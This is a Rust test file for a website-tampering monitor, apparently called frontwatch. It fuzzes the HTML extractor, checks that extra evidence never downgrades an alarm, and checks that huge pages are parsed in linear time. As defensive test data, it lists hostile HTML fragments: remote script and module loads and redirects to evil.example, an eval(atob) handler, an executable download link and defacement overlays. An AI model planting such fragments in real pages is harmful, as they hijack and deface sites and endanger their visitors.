//! Whatever a site sends is read to the end: no panic, bounded models, linear time; and more evidence never calms.
#![allow(
    clippy::unwrap_used,
    clippy::format_collect,
    clippy::format_push_string,
    clippy::too_many_lines,
    clippy::type_complexity,
    reason = "tables of pages, put together as text; a test may panic"
)]

mod common;

use std::time::{Duration, Instant};

use common::{HOST, Watch, front};
use frontwatch_core::extract::{decode, extract};
use frontwatch_core::observation::Headers;
use frontwatch_core::verdict::Verdict;
use frontwatch_core::watch::WatchKind;
use proptest::prelude::*;
use url::Url;

/// Pieces that pages, and those who attack readers of pages, are made of.
const PIECES: &[&str] = &[
    "<div style='position:fixed;inset:0'>",
    "<iframe srcdoc='<b>x'",
    "<script>",
    "</script>",
    "<title>",
    "</title",
    "<a href=//evil.example/ hidden>",
    "<h1>hacked by ",
    "&#x110000;",
    "&amp",
    "\u{0}",
    "<!--",
    "-->",
    "<style>body{display:none}",
    "</style>",
    "<img src=data:image/png;base64,AAAA width=100%>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=http://[::1]>",
    "<form action=javascript:alert(1)>",
    "<svg><title>",
    "</html>",
    "\u{202e}",
    "ə",
    "<textarea>",
    "<plaintext",
    "<p onload=\"eval(atob('x'))padpadpadpad\">",
    "<object data=//evil.example/x>",
    "position:fixed",
    "<noscript><a href=//evil.example/x.exe>",
    "</noscript>",
    "<xmp>",
    "<style>*:not(b)::before{content:'ələ keçirildi';inset:0}@import 'x",
    "<dialog open style='height:100vh;width:100%'>",
    "<link rel=stylesheet href='data:text/css;base64,Ym9keXtkaXNwbGF5Om5vbmV9'>",
    "<img srcset='//evil.example/a 2x' alt=x onerror=\"import('//evil.example/m')\">",
    "<template shadowrootmode=open>",
    "<body class=a9b8>",
    "\"",
    "'",
    ">",
    "<",
    "</",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_text_is_read_and_judged(parts in prop::collection::vec(prop_oneof![
        prop::sample::select(PIECES).prop_map(str::to_owned),
        any::<String>(),
    ], 0..60)) {
        let page = parts.concat();
        let watch = Watch::new(WatchKind::Homepage);
        let judged = watch.judge(&page);
        prop_assert!((0.0..=1.0).contains(&judged.judgement.score));
        Watch::new(WatchKind::Feed).judge(&page);
        Watch::new(WatchKind::Admin).judge(&page);
    }

    #[test]
    fn any_bytes_are_decoded(body in prop::collection::vec(any::<u8>(), 0..400), label in ".{0,30}") {
        let headers = Headers::new([("content-type".to_owned(), format!("text/html; charset={label}"))]);
        decode(&body, &headers);
    }

    /// An attack that alarms does so whatever ordinary or hostile things stand beside it.
    #[test]
    fn more_evidence_never_calms(parts in prop::collection::vec(prop::sample::select(&[
        "<script src=https://evil.example/x.js></script>", "<iframe src=//evil.example width=1 height=1></iframe>", "<h1>hacked by nobody</h1>",
        "<a href=//pills.example hidden>x</a>", "<center><img src=/x.png width=100%></center>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    ][..]), 0..5)) {
        let watch = Watch::learned(WatchKind::Homepage, front, 5);
        let page = |parts: &[&str]| front(5).replacen("</body>", &format!("{}</body>", parts.concat()), 1);
        let cover = "<div style='position:fixed;inset:0'><img src=//evil.example/a.png></div>";
        let alone = watch.judge(&page(&[cover])).judgement;
        prop_assert_eq!(alone.verdict, Verdict::Alarm);
        let with: Vec<&str> = std::iter::once(cover).chain(parts).collect();
        let together = watch.judge(&page(&with)).judgement;
        prop_assert_eq!(together.verdict, Verdict::Alarm);
    }
}

#[test]
fn huge_and_deep_pages_are_read_in_linear_time() {
    let url = Url::parse(HOST).unwrap();
    let table: Vec<(&str, String)> = vec![
        ("a title of a megabyte", format!("<title>{}</title>", "x".repeat(1 << 20))),
        ("deep nesting", "<div>".repeat(200_000)),
        ("unclosed links", "<a href=/x>".repeat(100_000)),
        ("end tags of nothing", "</div>".repeat(200_000)),
        ("many attributes", format!("<p {}>", (0..100_000).map(|n| format!("a{n}=1 ")).collect::<String>())),
        ("one attribute of a megabyte", format!("<img src=\"{}\">", "a/".repeat(1 << 19))),
        ("many hosts", (0..30_000).map(|n| format!("<a href=//h{n}.example>x</a>")).collect()),
        ("many classes", format!("<p class=\"{}\">", (0..200_000).map(|n| format!("c{n} ")).collect::<String>())),
        ("many rules", format!("<style>{}", ".a{position:fixed;inset:0}".repeat(40_000))),
        ("open braces", format!("<style>{}", "{".repeat(1 << 20))),
        ("long script", format!("<script>{}</script>", "var a='//x.example/';".repeat(50_000))),
        ("headings", "<h2>same</h2>".repeat(80_000)),
        ("scripts of slashes", format!("<script>{}</script>", "/".repeat(4000)).repeat(500)),
        ("elements that no rule means", {
            let rules: String = (0..200).map(|n| format!(".r{n}{{position:fixed;inset:0}}")).collect();
            format!(
                "<style>{rules}</style>{}",
                (0..50_000).map(|n| format!("<b class='x{n} y{n}'>")).collect::<String>()
            )
        }),
    ];
    for (what, page) in table {
        let began = Instant::now();
        let model = extract(&page, &url, &[]);
        let took = began.elapsed();
        assert!(took < Duration::from_secs(6), "{what}: {took:?}");
        assert!(model.title.chars().count() <= 300, "{what}");
        assert!(model.links.len() <= 3000 && model.domains.len() <= 2000 && model.covers.len() <= 50, "{what}");
    }
}
